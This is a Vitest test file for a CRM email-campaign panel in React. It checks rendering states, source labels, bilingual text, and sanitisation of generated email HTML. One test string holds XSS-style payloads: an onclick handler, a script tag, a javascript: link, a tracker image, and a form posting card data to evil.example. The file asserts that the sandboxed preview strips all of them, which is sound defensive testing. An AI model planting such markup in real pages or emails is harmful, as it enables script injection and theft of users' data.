import { JSDOM } from 'jsdom';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { generateCampaignByRules } from '@/lib/campaign/generate';
import type { Campaign, CampaignReply } from '@/lib/contracts';
import { DEMO_PROFILE } from '@/lib/profile/demo-profile';
import { UiLanguageContext } from '../ui/use-translate';
import { CampaignPanel } from './CampaignPanel';
import { campaignPreviewDocument, safeCampaignHtml } from '@/lib/campaign/safe-html';
import { createCampaignStore, type CampaignState } from './store';

const lead = { fullName: 'Lucía Gómez', company: 'Norte Logística SA', description: 'Necesitamos reforzar la ciberseguridad urgentemente tras un ataque.' };
const rules = generateCampaignByRules({ lead }, DEMO_PROFILE);
const hostileHtml =
  '<p onclick="steal()">Hola</p><script>alert(1)</script><img src="https://tracker.example/p.gif"><a href="javascript:alert(1)">x</a><form action="https://evil.example"><input name="card"></form><p style="position:fixed;top:0;background:url(https://evil.example/x)">fijo</p>';

function render(state: CampaignState, open = true, lang: 'es' | 'en' = 'en') {
  const store = createCampaignStore(state);
  store.open.set(open);
  return renderToStaticMarkup(
    <UiLanguageContext.Provider value={lang}>
      <CampaignPanel store={store} onRun={() => {}} onInsert={async () => ({ ok: true })} />
    </UiLanguageContext.Provider>,
  );
}
const done = (campaign: Campaign, extra: Partial<CampaignReply> = {}): CampaignState => ({ status: 'done', recordId: '1', steps: [], reply: { campaign, origin: 'backend', latencyMs: 12, ...extra } });

describe('CampaignPanel', () => {
  it('shows nothing off record pages, the Campaign action on them', () => {
    expect(render({ status: 'idle' })).toBe('');
    const html = render({ status: 'ready', recordId: '1' }, false);
    expect(html).toContain('data-testid="pulso-campaign-open"');
    expect(html).not.toContain('pulso-campaign-panel');
  });

  it('shows the steps as they arrive while it is being written', () => {
    const html = render({ status: 'running', recordId: '1', steps: rules.steps.slice(0, 2) });
    expect(html.match(/data-testid="pulso-campaign-step"/g)).toHaveLength(2);
    expect(html).toContain('data-step="enrich"');
    expect(html).toContain('pulso-campaign-working');
    expect(html).toContain('aria-busy="true"');
  });

  it('labels the source: model, rules, rescue (with its reason); says where it came from', () => {
    expect(render(done({ ...rules, source: 'llm' }))).toContain('data-source="llm"');
    expect(render(done(rules))).toMatch(/data-testid="pulso-campaign-source" data-source="rules"[^>]*>Rules template/);
    const rescue = generateCampaignByRules({ lead }, DEMO_PROFILE, { rescue: { reason: 'timeout' } });
    const html = render(done(rescue, { error: 'timeout' }), true, 'es');
    expect(html).toMatch(/data-source="rescue"[^>]*>Plantilla de rescate — no se pudo usar el modelo \(timeout\)/);
    expect(render(done(rules, { origin: 'offline', error: 'backend unreachable' }))).toContain('made in the browser');
  });

  it('a record with almost nothing: says which pieces the email asks for', () => {
    const thin = generateCampaignByRules({ lead: { email: 'someone@gmail.com' } }, DEMO_PROFILE);
    expect(thin.segment).toBe('needs_info');
    const html = render(done(thin), true, 'en');
    expect(html).toContain('data-testid="pulso-campaign-missing"');
    expect(html).toMatch(/The record does not say: [^<]*company/i);
  });

  it('the preview is a sandboxed iframe (no allow-scripts) whose document is sanitised and forbids remote loads', () => {
    const html = render(done({ ...rules, source: 'llm', html: hostileHtml }));
    const iframe = /<iframe[^>]*data-testid="pulso-campaign-preview"[^>]*>/.exec(html)![0];
    expect(iframe).toContain('sandbox=""');
    expect(iframe).not.toMatch(/allow-scripts|allow-same-origin|allow-forms/);
    const srcdoc = new JSDOM(`<body>${iframe}</body>`).window.document.querySelector('iframe')!.getAttribute('srcdoc')!;
    expect(srcdoc).toContain("default-src 'none'");
    expect(srcdoc).not.toMatch(/<script|onclick|tracker\.example|javascript:|<form|<input|position:\s*fixed|url\(/i);
    expect(srcdoc).toContain('Hola');
  });

  it('in the browser context: the page window sanitises each dangerous construct (script, on*, javascript:, remote src/href, forms, escaping CSS)', () => {
    const { window } = new JSDOM('<!doctype html><html><body></body></html>');
    const clean = safeCampaignHtml({ ...rules, html: hostileHtml }, window as never);
    expect(clean).toContain('<p>Hola</p>');
    for (const bad of [/<script/i, /onclick/i, /<img/i, /javascript:/i, /<form/i, /<input/i, /position/i, /url\(/i]) expect(clean).not.toMatch(bad);
    // A window DOMPurify cannot use: the email is rendered from its text, never shown unsanitised.
    const doc = campaignPreviewDocument({ ...rules, html: hostileHtml }, {} as never);
    expect(doc).not.toMatch(/<script|onclick|tracker/);
  });

  it('Spanish and English', () => {
    expect(render({ status: 'ready', recordId: '1' }, false, 'es')).toContain('Campaña');
    expect(render(done(rules), true, 'es')).toContain('Insertar en el correo del CRM');
    expect(render(done(rules), true, 'en')).toContain('Insert into the CRM email');
  });
});
